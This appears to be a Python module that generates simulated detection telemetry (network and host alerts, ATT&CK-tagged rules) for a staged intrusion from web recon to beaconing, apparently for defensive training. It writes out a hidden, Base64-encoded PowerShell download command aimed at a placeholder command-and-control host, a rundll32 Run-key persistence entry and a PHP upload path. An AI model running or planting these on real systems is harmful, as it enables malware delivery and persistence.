"""The first half of the attack: from the scan of a web server to a workstation that calls home.

The web server is scanned and crawled; a script is uploaded through its image handler; it plants a macro
document; the victim is mailed a link to that document on the company's own server, opens it, and the macro
starts PowerShell, which fetches a library that rundll32 runs from then on and that checks in every five and a
half minutes.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from random import Random

from cases.demo.estate import RESOLVER, Cast, fingerprint
from cases.demo.events import Step
from cases.demo.sensors import Act, Sensors
from cases.demo.suricata import Conversation, Rule, dns_query, http, tls
from cases.demo.wazuh import Process, domain_user, file_hashes
from cases.demo.wazuh import Rule as HostRule
from cases.demo.webhooks import mail_gateway

CHECK_INS = 48
CHECK_IN_MINUTES = 5.5
JITTER = 0.1  # of the period, either way
FIRST_CHECK_IN = 86.0

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"

_SCANNER_AGENT = "Mozilla/5.0 (compatible; webprobe/2.4; +http://webprobe.example/about)"
_BROWSER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:134.0) Gecko/20100101 Firefox/134.0"
_POWERSHELL_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4522"

SWEEP = Rule(
    1700101,
    "LOCAL SCAN SYN sweep of service ports from one external host",
    "Detection of a Network Scan",
    techniques=("T1595.001",),
    target="Server",
)
PROBE = Rule(
    1700104,
    "LOCAL SCAN Web vulnerability probe, scanner user agent",
    "Attempted Information Leak",
    rating="Minor",
    techniques=("T1595.002",),
    target="Web_Server",
)
CRAWL = Rule(
    1700109,
    "LOCAL INFO Automated crawl of staff directory pages",
    "Misc activity",
    techniques=("T1594",),
    target="Web_Server",
)
UPLOAD = Rule(
    1700212,
    "LOCAL WEB_SERVER Server-side script uploaded through image handler",
    "Web Application Attack",
    rating="Major",
    techniques=("T1190",),
    target="Web_Server",
)
MACRO_DOWNLOAD = Rule(
    1700305,
    "LOCAL POLICY Macro-enabled Office document fetched over plain HTTP",
    "Potentially Bad Traffic",
    rating="Minor",
    techniques=("T1566.002",),
)
SCRIPTED_DOWNLOAD = Rule(
    1700311,
    "LOCAL HUNTING PowerShell user agent fetches portable executable",
    "Potentially Bad Traffic",
    rating="Major",
    techniques=("T1105", "T1059.001"),
)
CHECK_IN = Rule(
    1700402,
    "LOCAL HUNTING TLS session to newly observed domain, self-issued certificate",
    "Potentially Bad Traffic",
    rating="Minor",
    techniques=("T1071.001", "T1573.002"),
)
IMPLANT_CLIENT = Rule(
    1700407,
    "LOCAL MALWARE TLS client fingerprint of known implant family",
    "Malware Command and Control Activity Detected",
    rating="Major",
    techniques=("T1071.001",),
)
DNS_FALLBACK = Rule(
    1700415,
    "LOCAL HUNTING TXT query with encoded leftmost label",
    "Potentially Bad Traffic",
    rating="Minor",
    techniques=("T1071.004",),
)

_WEB_ERRORS = HostRule(
    "100210",
    7,
    "Web server: many not-found answers to one client",
    ("web", "accesslog", "recon"),
    ("T1595.003",),
)
_SCRIPT_ADDED = HostRule(
    "100221",
    10,
    "Script file added below the web server's upload folder",
    ("syscheck", "web"),
    ("T1505.003",),
)
_DOCUMENT_ADDED = HostRule("100222", 7, "File added below the web server's upload folder", ("syscheck", "web"))
_OFFICE_SHELL = HostRule(
    "100301",
    13,
    "Office program started PowerShell with an encoded command",
    ("sysmon", "sysmon_event1", "windows"),
    ("T1059.001", "T1204.002", "T1027.010"),
)
_SHELL_CONNECTS = HostRule(
    "100304",
    8,
    "PowerShell opened a connection to the internet",
    ("sysmon", "sysmon_event3", "windows"),
    ("T1105",),
)
_LIBRARY_DROPPED = HostRule(
    "100306",
    7,
    "PowerShell wrote a library to the user's profile",
    ("sysmon", "sysmon_event_11", "windows"),
    ("T1105",),
)
_RARE_PARENT = HostRule(
    "100308",
    12,
    "Rundll32 with a rare parent runs a library from the user's profile",
    ("sysmon", "sysmon_event1", "windows"),
    ("T1218.011",),
)
_UNSIGNED_LIBRARY = HostRule(
    "100309", 9, "Unsigned library loaded by rundll32", ("sysmon", "sysmon_event7", "windows"), ("T1218.011",)
)
_RUN_KEY = HostRule(
    "100312",
    9,
    "Run key points to a library in the user's profile",
    ("sysmon", "sysmon_event_13", "windows"),
    ("T1547.001",),
)


def intrusion(*, cast: Cast, sensors: Sensors, pick: Random) -> Iterator[Step]:
    """Recon, initial access, execution and beaconing; phase by phase, not sorted."""
    yield from _recon(cast, sensors, pick)
    yield from _initial_access(cast, sensors)
    yield from _execution(cast, sensors)
    yield from _beaconing(cast, sensors, pick)


def implant_path(cast: Cast) -> str:
    return f"C:\\Users\\{cast.victim.user}\\AppData\\Local\\Microsoft\\{cast.implant}"


def implant_process(cast: Cast) -> Process:
    return Process(RUNDLL32, f'rundll32.exe "{implant_path(cast)}",Register', 7_416)


def _recon(cast: Cast, sensors: Sensors, pick: Random) -> Iterator[Step]:
    act = Act("recon", sensors)
    for number, port in enumerate((80, 443, 8080, 8443, 22)):
        talk = Conversation(cast.scanner, cast.web.ip, port, up=60, down=54)
        yield act.eve(12 + number * 0.7, rule=SWEEP, talk=talk)
    for number, url in enumerate(("/.git/config", "/server-status", "/admin/login", "/phpinfo.php")):
        app = http(host=cast.web.fqdn, url=url, agent=_SCANNER_AGENT, status=404, length=196)
        talk = Conversation(cast.scanner, cast.web.ip, 80, up=410, down=612)
        yield act.eve(20 + number * 1.3, rule=PROBE, talk=talk, app=app)
    for number, url in enumerate(("/backup.zip", "/old/", "/portal/upload.bak")):
        yield act.wazuh(
            29 + number * 1.9 + pick.random(),
            sensors.hosts.web_log,
            host=cast.web,
            rule=_WEB_ERRORS,
            client=cast.scanner,
            url=url,
            status=404,
            agent=_SCANNER_AGENT,
        )
    app = http(host=cast.web.fqdn, url="/about/staff?page=14", agent=_BROWSER_AGENT, length=18_240)
    talk = Conversation(cast.scanner, cast.web.ip, 80, up=9_310, down=262_144)
    yield act.eve(41 + pick.random(), rule=CRAWL, talk=talk, app=app)


def _initial_access(cast: Cast, sensors: Sensors) -> Iterator[Step]:
    act = Act("initial_access", sensors)
    script = f"/var/www/portal/uploads/.thumb_{cast.token}.php"
    document = f"/var/www/portal/uploads/{cast.lure}"
    upload = http(
        host=cast.web.fqdn,
        url=f"/portal/image.php?name=.thumb_{cast.token}.php",
        agent=_BROWSER_AGENT,
        method="POST",
        length=41,
        kind="application/json",
    )
    talk = Conversation(cast.scanner, cast.web.ip, 80, up=5_804, down=611)
    yield act.eve(58.0, rule=UPLOAD, talk=talk, app=upload)
    for minute, rule, path in ((58.4, _SCRIPT_ADDED, script), (61.0, _DOCUMENT_ADDED, document)):
        yield act.wazuh(
            minute,
            sensors.hosts.file_changed,
            host=cast.web,
            rule=rule,
            path=path,
            event="added",
            owner="www-data",
            digest=fingerprint("upload", path),
        )
    yield act.hook(68.0, "generic", mail_gateway, **_phishing_mail(cast, document))
    fetched = http(
        host=cast.web.fqdn,
        url=f"/uploads/{cast.lure}",
        agent=_BROWSER_AGENT,
        length=88_412,
        kind="application/vnd.ms-word.document.macroEnabled.12",
    )
    talk = Conversation(cast.victim.host.ip, cast.web.ip, 80, up=702, down=91_220)
    yield act.eve(77.5, rule=MACRO_DOWNLOAD, talk=talk, app=fetched)


def _phishing_mail(cast: Cast, document: str) -> dict[str, object]:
    sender = f"accounts@{cast.drop_domain}"
    defanged = f"hxxp://{cast.web.fqdn.replace('.', '[.]')}/uploads/{cast.lure}"
    return {
        "title": f"Delivered mail links to macro document: {cast.lure}",
        "severity": "medium",
        "description": (
            f"First mail ever from {sender.replace('@', '(at)')} to {cast.victim.email}. Delivered, because "
            f"its link {defanged} points to the company's own server. The document has macros."
        ),
        "sender": sender,
        "recipient": cast.victim.email,
        "subject": cast.lure.rsplit("_", 1)[0].replace("_", " "),
        "verdict": "delivered",
        "iocs": (sender, f"http://{cast.web.fqdn}/uploads/{cast.lure}", fingerprint("upload", document)),
        "techniques": ("T1566.002",),
    }


def _execution(cast: Cast, sensors: Sensors) -> Iterator[Step]:
    act = Act("execution", sensors)
    workstation, user = cast.victim.host, domain_user(cast.victim)
    library, source = implant_path(cast), f"/assets/{cast.token}/prefetch.bin"
    word = Process(WINWORD, f'"WINWORD.EXE" /n "C:\\Users\\{cast.victim.user}\\Downloads\\{cast.lure}"', 5_128)
    shell = Process(POWERSHELL, _encoded(f"iwr http://{cast.c2_domain}{source} -OutFile $env:LOCALAPPDATA"), 6_884)
    started = sensors.hosts.process_started
    yield act.wazuh(79.0, started, host=workstation, rule=_OFFICE_SHELL, process=shell, parent=word, user=user)
    fetch = http(
        host=cast.c2_domain,
        url=source,
        agent=_POWERSHELL_AGENT,
        length=312_832,
        kind="application/octet-stream",
    )
    talk = Conversation(workstation.ip, cast.c2_ip, 80, up=604, down=327_110)
    yield act.eve(79.1, rule=SCRIPTED_DOWNLOAD, talk=talk, app=fetch)
    for minute, rule, event_id, message, data in _sysmon_after_macro(cast, user, library):
        yield act.wazuh(
            minute,
            sensors.hosts.sysmon,
            host=workstation,
            rule=rule,
            event_id=event_id,
            message=message,
            process=implant_process(cast) if event_id == 7 else shell,
            **data,
        )
    yield act.wazuh(
        79.8,
        started,
        host=workstation,
        rule=_RARE_PARENT,
        process=implant_process(cast),
        parent=shell,
        user=user,
    )


def _sysmon_after_macro(
    cast: Cast, user: str, library: str
) -> Iterator[tuple[float, HostRule, int, str, dict[str, str]]]:
    connection = {
        "user": user,
        "protocol": "tcp",
        "sourceIp": cast.victim.host.ip,
        "destinationIp": cast.c2_ip,
        "destinationHostname": cast.c2_domain,
        "destinationPort": "80",
    }
    yield 79.2, _SHELL_CONNECTS, 3, "Network connection detected", connection
    yield 79.5, _LIBRARY_DROPPED, 11, "File created", {"targetFilename": library, "user": user}
    loaded = {
        "imageLoaded": library,
        "hashes": file_hashes("implant", cast.token),
        "signed": "false",
        "signatureStatus": "Unavailable",
        "user": user,
    }
    yield 80.0, _UNSIGNED_LIBRARY, 7, "Image loaded", loaded
    value = {
        "eventType": "SetValue",
        "targetObject": "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Prefetch",
        "details": f'rundll32.exe "{library}",Register',
        "user": user,
    }
    yield 81.5, _RUN_KEY, 13, "Registry value set", value


def _beaconing(cast: Cast, sensors: Sensors, pick: Random) -> Iterator[Step]:
    """Check-ins with little jitter and even volumes; at times by DNS too, and a longer answer brings work."""
    act = Act("beaconing", sensors)
    minute = FIRST_CHECK_IN
    implant = tls(sni=cast.c2_domain, subject=f"CN={cast.c2_domain}", issuer=f"CN={cast.c2_domain}", client="implant")
    for number in range(CHECK_INS):
        talk = Conversation(
            cast.victim.host.ip,
            cast.c2_ip,
            443,
            up=1_384 + pick.randrange(56),
            down=3_920 + pick.randrange(80) + (61_440 if number in (6, 18, 26) else 0),
            src_port=pick.randint(49_152, 65_535),
            flow_id=pick.randrange(10**14, 2 * 10**15),
        )
        yield act.eve(minute, rule=CHECK_IN, talk=talk, app=implant)
        if number % 16 == 0:
            yield act.eve(minute + 0.02, rule=IMPLANT_CLIENT, talk=talk, app=implant)
        if number % 4 == 1:
            yield act.eve_flow(minute + 1.1, talk=talk, app_proto="tls")
        if number % 8 == 3:
            yield _dns_check_in(minute + 0.5, cast, act, number)
        minute += CHECK_IN_MINUTES * (1 + pick.uniform(-JITTER, JITTER))


def _dns_check_in(minute: float, cast: Cast, act: Act, number: int) -> Step:
    label = fingerprint("dns", cast.token, number)[:40]
    talk = Conversation(cast.victim.host.ip, RESOLVER.ip, 53, proto="UDP", up=118)
    question = dns_query(name=f"{label}.t.{cast.c2_domain}", kind="TXT", query_id=4_096 + number)
    return act.eve(minute, rule=DNS_FALLBACK, talk=talk, app=question)


def _encoded(command: str) -> str:
    """PowerShell's -EncodedCommand: Base64 of UTF-16LE."""
    return f"powershell.exe -NoP -W Hidden -Enc {base64.b64encode(command.encode('utf-16-le')).decode()}"
